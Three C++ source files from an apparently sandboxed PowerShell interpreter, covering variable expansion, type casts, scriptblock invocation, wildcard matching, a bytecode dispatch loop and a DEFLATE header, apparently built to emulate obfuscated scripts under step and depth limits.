        continue;
      }
      if (n == '{') {
        const std::size_t close = raw.find('}', i + 2);
        if (close != std::string::npos) {
          const std::string name = raw.substr(i + 2, close - (i + 2));
          VariableExpressionAst fake(0, 0, name);
          out += eval_variable(fake).to_display_string();
          i = close + 1;
          continue;
        }
      }
      if (std::isalpha(static_cast<unsigned char>(n)) || n == '_') {
        std::size_t j = i + 1;
        std::string name;
        while (j < raw.size() &&
               (std::isalnum(static_cast<unsigned char>(raw[j])) || raw[j] == '_')) {
          name.push_back(raw[j]);
          ++j;
        }
        // Scope/env qualifier.
        if (j < raw.size() && raw[j] == ':' && j + 1 < raw.size() &&
            (std::isalnum(static_cast<unsigned char>(raw[j + 1])) || raw[j + 1] == '_')) {
          const std::string lower = to_lower(name);
          if (lower == "env" || lower == "global" || lower == "script" ||
              lower == "local" || lower == "variable") {
            name.push_back(':');
            ++j;
            while (j < raw.size() && (std::isalnum(static_cast<unsigned char>(raw[j])) ||
                                      raw[j] == '_')) {
              name.push_back(raw[j]);
              ++j;
            }
          }
        }
        VariableExpressionAst fake(0, 0, name);
        out += eval_variable(fake).to_display_string();
        i = j;
        continue;
      }
      if (n == '_') { /* handled above */ }
    }
    out.push_back(c);
    ++i;
  }
  return Value(std::move(out));
}

// ------------------------------------------------------------------- casts

Value Interpreter::cast_value(const std::string& type_name, const Value& v) {
  std::string t = to_lower(type_name);
  if (t.rfind("system.", 0) == 0) t = t.substr(7);

  if (t == "char") {
    if (v.is_char()) return v;
    if (v.is_string()) {
      const auto cps = utf8_codepoints(v.get_string());
      if (cps.size() == 1) return Value(PsChar{cps[0]});
      // A numeric string like '0x4B' converts through int.
      std::int64_t i = 0;
      if (v.try_to_int(i)) return Value(PsChar{static_cast<std::uint32_t>(i)});
      throw EvalError("cannot cast string to char");
    }
    return Value(PsChar{static_cast<std::uint32_t>(need_int(v, "char cast"))});
  }
  if (t == "char[]") {
    Array out;
    for (std::uint32_t cp : utf8_codepoints(v.to_display_string())) {
      out.push_back(Value(PsChar{cp}));
    }
    return Value(std::move(out));
  }
  if (t == "int" || t == "int32" || t == "int64" || t == "long" || t == "int16" ||
      t == "uint32" || t == "uint64" || t == "short") {
    if (v.is_double()) return Value(static_cast<std::int64_t>(std::llround(v.get_double())));
    return Value(need_int(v, "int cast"));
  }
  if (t == "byte") {
    const std::int64_t i = need_int(v, "byte cast");
    if (i < 0 || i > 255) throw EvalError("byte out of range");
    return Value(i);
  }
  if (t == "double" || t == "float" || t == "single" || t == "decimal") {
    double d = 0;
    if (!v.try_to_double(d)) throw EvalError("cannot cast to double");
    return Value(d);
  }
  if (t == "string") return Value(v.to_display_string());
  if (t == "string[]") {
    Array out;
    for (const Value& item : v.is_array() ? v.get_array() : Array{v}) {
      out.push_back(Value(item.to_display_string()));
    }
    return Value(std::move(out));
  }
  if (t == "bool" || t == "boolean") return Value(v.to_bool());
  if (t == "byte[]") {
    if (v.is_bytes()) return v;
    Bytes out;
    for (const Value& item : v.is_array() ? v.get_array() : Array{v}) {
      const std::int64_t b = need_int(item, "byte[] cast");
      out.push_back(static_cast<std::uint8_t>(b & 0xFF));
    }
    return Value(std::move(out));
  }
  if (t == "array" || t == "object[]") {
    if (v.is_array()) return v;
    Array out;
    if (!v.is_null()) out.push_back(v);
    return Value(std::move(out));
  }
  if (t == "void") return Value();
  if (t == "regex" || t == "text.regularexpressions.regex") {
    return Value(v.to_display_string());
  }
  if (t == "scriptblock") return Value(ScriptBlock{v.to_display_string()});
  if (t == "io.memorystream") {
    if (v.is_bytes()) {
      return Value(std::shared_ptr<PsObject>(
          std::make_shared<MemoryStreamObject>(v.get_bytes())));
    }
    if (v.is_object()) return v;
    throw EvalError("cannot cast to MemoryStream");
  }
  if (t == "object" || t == "psobject") return v;
  if (t == "type") return Value("[" + type_name + "]");
  if (t == "securestring") {
    if (v.is_object()) return v;
    throw EvalError("cannot cast to SecureString");
  }
  throw EvalError("unsupported cast to [" + type_name + "]");
}

// ------------------------------------------------------------ scriptblocks

void Interpreter::invoke_scriptblock(const ScriptBlock& sb,
                                     const std::vector<Value>& input, bool per_item,
                                     std::vector<Value>& out) {
  if (depth_ >= opts_.max_depth) throw LimitError("invoke depth exceeded", FailureKind::DepthLimit);
  const ParsedScript root = parse_shared(sb.text);
  ++depth_;
  scopes_.emplace_back();
  struct Pop {
    Interpreter* self;
    ~Pop() {
      self->scopes_.pop_back();
      --self->depth_;
    }
  } pop{this};

  auto run_once = [&]() {
    try {
      for (const auto& block : root->named_blocks) {
        exec_statement_list(block->statements, sb.text, out);
      }
    } catch (const ReturnSignal& r) {
      if (!r.value.is_null()) out.push_back(r.value);
    }
  };

  if (per_item) {
    for (const Value& item : input) {
      charge_step();
      scopes_.back().vars["_"] = item;
      run_once();
    }
  } else {
    if (!input.empty()) {
      scopes_.back().vars["_"] = input.back();
      scopes_.back().vars["input"] = Value(Array(input.begin(), input.end()));
    }
    run_once();
  }
}

Value Interpreter::invoke_scriptblock_value(const ScriptBlock& sb) {
  std::vector<Value> out;
  invoke_scriptblock(sb, {}, /*per_item=*/false, out);
  return Value::from_stream(std::move(out));
}

Value Interpreter::call_function(const FunctionInfo& fn,
                                 const std::vector<Value>& args) {
  if (depth_ >= opts_.max_depth) throw LimitError("invoke depth exceeded", FailureKind::DepthLimit);
  const ParsedScript root = parse_shared(fn.body_text);
  ++depth_;
  scopes_.emplace_back();
  struct Pop {
    Interpreter* self;
    ~Pop() {
      self->scopes_.pop_back();
      --self->depth_;
    }
  } pop{this};

  for (std::size_t i = 0; i < fn.parameter_names.size(); ++i) {
    scopes_.back().vars[fn.parameter_names[i]] =
        i < args.size() ? args[i] : Value();
  }
  scopes_.back().vars["args"] = Value(Array(args.begin(), args.end()));

  std::vector<Value> out;
  try {
    for (const auto& block : root->named_blocks) {
      exec_statement_list(block->statements, fn.body_text, out);
    }
  } catch (const ReturnSignal& r) {
    if (!r.value.is_null()) out.push_back(r.value);
  }
  return Value::from_stream(std::move(out));
}

// --------------------------------------------------------------- utilities

bool wildcard_match(std::string_view pattern, std::string_view text) {
  // Iterative glob with '*' backtracking; case-insensitive; supports ?,
  // * and [a-z] classes.
  std::size_t p = 0, t = 0;
  std::size_t star_p = std::string_view::npos, star_t = 0;
  auto lower = [](char c) {
    return static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  };
  while (t < text.size()) {
    bool matched = false;
    if (p < pattern.size()) {
      const char pc = pattern[p];
      if (pc == '*') {
        star_p = p++;
        star_t = t;
        continue;
      }
      if (pc == '?') {
        ++p;
        ++t;
        continue;
      }
      if (pc == '[') {
        const std::size_t close = pattern.find(']', p + 1);
        if (close != std::string_view::npos) {
          bool in_class = false;
          std::size_t k = p + 1;
          while (k < close) {
            if (k + 2 < close + 1 && pattern[k + 1] == '-' && k + 2 < close) {
              if (lower(text[t]) >= lower(pattern[k]) &&
                  lower(text[t]) <= lower(pattern[k + 2])) {
                in_class = true;
              }
              k += 3;
            } else {
              if (lower(pattern[k]) == lower(text[t])) in_class = true;
              ++k;
            }
          }
          if (in_class) {
            p = close + 1;
            ++t;
            continue;
          }
        } else if (lower(pc) == lower(text[t])) {
          ++p;
          ++t;
          continue;
        }
      } else if (lower(pc) == lower(text[t])) {
        ++p;
        ++t;
        continue;
      }
      matched = false;
    }
    if (!matched) {
      if (star_p != std::string_view::npos) {
        p = star_p + 1;
        t = ++star_t;
        continue;
      }
      return false;
    }
  }
  while (p < pattern.size() && pattern[p] == '*') ++p;
  return p == pattern.size();
}

std::string format_operator(const std::string& fmt, const std::vector<Value>& args) {
  std::string out;
  std::size_t i = 0;
  while (i < fmt.size()) {
    const char c = fmt[i];
    if (c == '{' && i + 1 < fmt.size() && fmt[i + 1] == '{') {
      out.push_back('{');
      i += 2;
      continue;
    }
    if (c == '}' && i + 1 < fmt.size() && fmt[i + 1] == '}') {
      out.push_back('}');
      i += 2;
      continue;
    }
    if (c == '{') {
      const std::size_t close = fmt.find('}', i);
      if (close == std::string::npos) throw EvalError("bad format string");
      const std::string spec = fmt.substr(i + 1, close - i - 1);
      // {index[,alignment][:format]}
      std::size_t comma = spec.find(',');
      std::size_t colon = spec.find(':');
      const std::size_t index_end = std::min(
          comma == std::string::npos ? spec.size() : comma,
          colon == std::string::npos ? spec.size() : colon);
      const std::string index_str = spec.substr(0, index_end);
      char* endp = nullptr;
      const long index = std::strtol(index_str.c_str(), &endp, 10);
      if (endp == index_str.c_str() || index < 0 ||
          static_cast<std::size_t>(index) >= args.size()) {
        throw EvalError("format index out of range: {" + spec + "}");
      }
      const Value& arg = args[static_cast<std::size_t>(index)];
      std::string text;
      std::string format_spec;
      if (colon != std::string::npos) format_spec = spec.substr(colon + 1);
      if (!format_spec.empty()) {
        const char f = static_cast<char>(std::toupper(
            static_cast<unsigned char>(format_spec[0])));
        const int width = format_spec.size() > 1
                              ? std::atoi(format_spec.c_str() + 1)
                              : 0;
        std::int64_t n = 0;
        if ((f == 'X' || f == 'D' || f == 'N') && arg.try_to_int(n)) {
          if (f == 'X') {
            text = convert_to_string_base(n, 16);
            if (format_spec[0] == 'X') {
              for (char& ch : text) ch = static_cast<char>(std::toupper(
                  static_cast<unsigned char>(ch)));
            }
          } else {
            text = std::to_string(n);
          }
          while (static_cast<int>(text.size()) < width) text.insert(0, "0");
        } else {
          text = arg.to_display_string();
        }
      } else {
        text = arg.to_display_string();
      }
      int alignment = 0;
      if (comma != std::string::npos &&
          (colon == std::string::npos || comma < colon)) {
        alignment = std::atoi(spec.c_str() + comma + 1);
      }
      if (alignment > 0) {
        while (static_cast<int>(text.size()) < alignment) text.insert(0, " ");
      } else if (alignment < 0) {
        while (static_cast<int>(text.size()) < -alignment) text.push_back(' ');
      }
      out += text;
      i = close + 1;
      continue;
    }
    out.push_back(c);
    ++i;
  }
  return out;
}

}  // namespace ps
