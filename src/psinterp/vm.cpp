#include "psinterp/bytecode.h"
#include "psinterp/interpreter.h"

namespace ps::bytecode {

/// The dispatch loop. Deliberately boring: every operator defers to the
/// interpreter's value cores, so this function owns only stack movement and
/// control flow. Exceptions (EvalError, LimitError, BlockedCommandError,
/// BudgetError out of charge_step) propagate — the operand stack is a local
/// vector, so unwinding needs no cleanup.
Value run_chunk(const Chunk& chunk, Interpreter& interp) {
  std::vector<Value> stack;
  stack.reserve(chunk.max_stack);
  const auto pop = [&stack]() {
    Value v = std::move(stack.back());
    stack.pop_back();
    return v;
  };

  std::size_t ip = 0;
  while (ip < chunk.code.size()) {
    const Insn in = chunk.code[ip++];
    switch (in.op) {
      case Op::Tick:
        interp.charge_step();
        break;
      case Op::PushConst:
        stack.push_back(chunk.constants[in.a]);
        break;
      case Op::LoadVar:
        stack.push_back(interp.variable_value(chunk.names[in.a]));
        break;
      case Op::BinOp: {
        const Value rhs = pop();
        const Value lhs = pop();
        stack.push_back(interp.binary_values(lhs, chunk.names[in.a], rhs));
        break;
      }
      case Op::UnOp: {
        const Value v = pop();
        stack.push_back(interp.unary_value(chunk.names[in.a], v));
        break;
      }
      case Op::Cast: {
        const Value v = pop();
        stack.push_back(interp.convert_value(chunk.names[in.a], v));
        break;
      }
      case Op::Index: {
        const Value index = pop();
        const Value target = pop();
        stack.push_back(interp.index_values(target, index));
        break;
      }
      case Op::Interp:
        stack.push_back(interp.expand_value(chunk.names[in.a]));
        break;
      case Op::MakeArray: {
        Array arr;
        arr.reserve(in.a);
        const std::size_t base = stack.size() - in.a;
        for (std::size_t i = 0; i < in.a; ++i) {
          arr.push_back(std::move(stack[base + i]));
        }
        stack.resize(base);
        stack.push_back(Value(std::move(arr)));
        break;
      }
      case Op::CollectLone: {
        // Lone-expression pipeline shaping + Value::from_stream: a null or
        // empty-array value emits nothing, which collapses to null; any
        // other value keeps its shape.
        Value v = pop();
        if (v.is_null() || (v.is_array() && v.get_array().empty())) {
          stack.push_back(Value());
        } else {
          stack.push_back(std::move(v));
        }
        break;
      }
      case Op::ToArray: {
        // @(...) shaping over the collected lone value: nothing -> empty
        // array, an array keeps its (top-level) elements, a scalar wraps.
        Value v = pop();
        if (v.is_null()) {
          stack.push_back(Value(Array{}));
        } else if (v.is_array()) {
          stack.push_back(std::move(v));
        } else {
          Array arr;
          arr.push_back(std::move(v));
          stack.push_back(Value(std::move(arr)));
        }
        break;
      }
      case Op::AndJump: {
        const Value v = pop();
        if (!v.to_bool()) {
          stack.push_back(Value(false));
          ip = in.a;
        }
        break;
      }
      case Op::OrJump: {
        const Value v = pop();
        if (v.to_bool()) {
          stack.push_back(Value(true));
          ip = in.a;
        }
        break;
      }
      case Op::ToBool: {
        const Value v = pop();
        stack.push_back(Value(v.to_bool()));
        break;
      }
    }
  }
  return stack.empty() ? Value() : std::move(stack.back());
}

}  // namespace ps::bytecode
