#pragma once

/// \file deflate.h
/// RFC 1951 DEFLATE, the substrate for System.IO.Compression.DeflateStream
/// used by the paper's Compress obfuscation technique. The decompressor
/// handles all three block types (stored, fixed Huffman, dynamic Huffman);
/// the compressor emits fixed-Huffman blocks with greedy LZ77 matching.

#include <optional>

#include "psinterp/encodings.h"

namespace ps {

/// Inflates a raw DEFLATE stream. Returns nullopt on malformed input.
/// `max_output` bounds decompression bombs.
std::optional<ByteVec> inflate(const ByteVec& data,
                               std::size_t max_output = 64u << 20);

/// Compresses into a raw DEFLATE stream (fixed-Huffman, greedy LZ77).
ByteVec deflate_compress(const ByteVec& data);

}  // namespace ps
